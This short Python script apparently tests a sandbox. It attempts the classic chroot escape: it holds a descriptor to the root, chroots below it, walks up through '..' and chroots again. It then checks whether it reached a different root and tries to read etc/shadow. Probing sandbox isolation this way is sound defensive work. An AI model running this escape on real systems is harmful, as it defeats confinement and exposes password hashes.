# The classic way out of a chroot: keep a descriptor, chroot below it, walk up.
from call import *

os.makedirs("/tmp/below", exist_ok=True)
top = os.open("/", os.O_RDONLY | os.O_DIRECTORY)
inode = os.stat("/").st_ino
call("chroot", b"/tmp/below")
os.fchdir(top)
for _ in range(64):
    os.chdir("..")
call("chroot", b".", label="chroot at the top")
show("top", "the sandbox's" if os.stat(".").st_ino == inode else "another")
show("etc/shadow", reading("etc/shadow"))
